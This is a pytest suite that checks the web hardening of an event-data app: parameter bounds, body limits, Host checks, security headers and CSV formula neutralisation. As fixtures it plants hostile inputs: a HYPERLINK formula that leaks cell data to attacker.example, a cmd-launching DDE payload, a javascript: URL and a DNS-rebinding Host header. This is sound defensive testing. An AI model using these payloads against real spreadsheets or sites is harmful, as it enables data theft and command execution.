"""Web hardening: bounded parameters, our own 400s only, body limit, Host check, security headers, CSV cells
that cannot run as formulas, streamed CSV, stale snapshot folders removed."""

from __future__ import annotations

import csv
import io
import logging
import os
import re
import subprocess
import sys

import pytest
from eventfactory import make_article, make_event
from fastapi.testclient import TestClient

from eventscope import store
from eventscope.records import CodedArticle
from eventscope.web import create_app
from eventscope.web.db import SnapshotReader, remove_stale_snapshot_dirs
from eventscope.web.guard import allowed_hosts_for

LISTS = ["/api/events", "/api/articles", "/api/stories", "/api/actors", "/api/dyads", "/api/locations", "/api/rejects"]
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """An article whose URL is javascript: and whose title and publisher are spreadsheet formulas."""
    path = tmp_path_factory.mktemp("guard") / "hostile.duckdb"
    article = make_article("Russia attacked Kenya on Monday.", url="javascript:alert(document.domain)",
                           publisher="@SUM(1+1)*cmd|' /C calc'!A0")
    article = article.model_copy(update={"title": FORMULA})
    coded = CodedArticle(article=article, events=[make_event(article, "Russia", "attacked", "Kenya", "190")])
    with store.connect(path) as con:
        store.write_tables(con, store.batch_tables([coded]))
    return path


@pytest.fixture(scope="module")
def client(hostile_db):
    with TestClient(create_app(hostile_db, refresh_interval=0), raise_server_exceptions=False) as test_client:
        yield test_client


@pytest.mark.parametrize("path", LISTS)
@pytest.mark.parametrize("offset", [2**63, 2**63 - 1, 2**64, 10**30, -1])
def test_out_of_range_offsets_are_a_422_not_a_500(client, path, offset):
    response = client.get(path, params={"offset": offset})
    assert response.status_code == 422, response.text
    assert "offset" in response.json()["detail"]


@pytest.mark.parametrize("params", [{"limit": 2**63}, {"limit": 0}, {"quad_class": 2**63}, {"quad_class": 9},
                                    {"sort": "nope"}, {"since": "2024-13-45"}, {"level": "x"}])
def test_other_bad_parameters_are_4xx(client, params):
    response = client.get("/api/actors", params=params)
    assert 400 <= response.status_code < 500, response.text


def test_a_server_bug_is_a_logged_500_not_a_400(client, monkeypatch, caplog):
    from eventscope.store import query

    def broken(*args, **kwargs):
        raise ValueError("a bug, not the client's mistake")

    monkeypatch.setattr(query, "stats", broken)
    with caplog.at_level(logging.ERROR):
        response = client.get("/api/stats")
    assert response.status_code == 500 and "internal error" in response.json()["detail"]
    assert "a bug" not in response.text  # details go to the log, not to the client
    assert any("internal error" in record.getMessage() for record in caplog.records)


def test_request_bodies_are_capped(hostile_db):
    with TestClient(create_app(hostile_db, max_body_bytes=10_000)) as small:
        big = {"text": "Russia attacked Kenya. " * 5000}
        assert small.post("/api/code", json=big).status_code == 413

        def chunks():  # no Content-Length: the limit applies while reading
            for _ in range(100):
                yield b"x" * 1000

        assert small.post("/api/code", content=chunks(), headers={"content-type": "application/json"}).status_code == 413
        assert small.post("/api/code", json={"text": ""}).status_code == 422  # small bodies go through


def test_the_host_header_is_checked_on_loopback(hostile_db):
    app = create_app(hostile_db, allowed_hosts=allowed_hosts_for("127.0.0.1"))
    with TestClient(app, base_url="http://127.0.0.1:8000") as local:
        assert local.get("/api/stats").status_code == 200
        assert local.get("/api/stats", headers={"host": "localhost:8000"}).status_code == 200
        assert local.get("/api/stats", headers={"host": "[::1]:8000"}).status_code == 200
        refused = local.get("/api/stats", headers={"host": "rebind.attacker.example:8000"})
        assert refused.status_code == 400 and "--allowed-host" in refused.json()["detail"]
    assert allowed_hosts_for("127.0.0.1", ["*"]) is None
    assert "news.example.org" in allowed_hosts_for("127.0.0.1", ["news.example.org"])
    assert allowed_hosts_for("0.0.0.0") is None


@pytest.mark.parametrize("path", ["/", "/events", "/api/stats", "/static/common.js", "/docs", "/nope"])
def test_security_headers_everywhere(client, path):
    headers = client.get(path).headers
    policy = headers["content-security-policy"]
    script_src = re.search(r"script-src ([^;]*)", policy).group(1)
    assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
    assert headers["x-content-type-options"] == "nosniff" and headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("path", ["/", "/events", "/articles", "/map", "/network", "/code", "/docs"])
def test_pages_have_no_inline_scripts(client, path):
    html = client.get(path).text
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S)
    assert scripts and all('src="' in attributes and not body.strip() for attributes, body in scripts)
    assert not re.search(r"\son[a-z]+=", html)  # no inline event handlers either


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.text)))


def test_csv_cells_cannot_run_as_formulas(client):
    article = csv_rows(client.get("/api/articles", params={"format": "csv"}))[0]
    assert article["title"] == "'" + FORMULA and article["publisher"].startswith("'@")
    event = csv_rows(client.get("/api/events", params={"format": "csv"}))[0]
    assert float(event["goldstein"]) < 0  # a negative number stays a number


def test_cli_csv_export_neutralises_formulas(hostile_db, tmp_path):
    from eventscope.export import csv_cell

    assert csv_cell(FORMULA) == "'" + FORMULA and csv_cell(-10.0) == "-10" and csv_cell(["+1", "a"]) == "'+1;a"
    from click.testing import CliRunner

    from eventscope.cli import main

    out = tmp_path / "events.csv"
    result = CliRunner().invoke(main, ["export", "--db", str(hostile_db), "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open()))
    assert rows and all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())


def test_csv_lists_are_streamed(hostile_db):
    from eventscope.store import query

    with store.connect(hostile_db, read_only=True) as con:
        listing = query.articles(con, query.Page(limit=10, stream=True))
        assert not isinstance(listing.rows, list)
        assert [row["title"] for row in listing.rows] == [FORMULA]


def test_stale_snapshot_folders_are_removed(tmp_path):
    finished = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead = tmp_path / "eventscope-web-dead"
    dead.mkdir()
    (dead / "owner.pid").write_text(finished.stdout.strip())
    (dead / "snapshot-1.duckdb").write_bytes(b"x" * 1000)
    alive = tmp_path / "eventscope-web-alive"
    alive.mkdir()
    (alive / "owner.pid").write_text(str(os.getpid()))
    assert remove_stale_snapshot_dirs(tmp_path) == [dead]
    assert not dead.exists() and alive.exists()


def test_a_server_marks_its_snapshot_folder(tmp_path):
    reader = SnapshotReader(tmp_path / "absent.duckdb")
    try:
        assert (reader._dir / "owner.pid").read_text() == str(os.getpid())
    finally:
        reader.close()
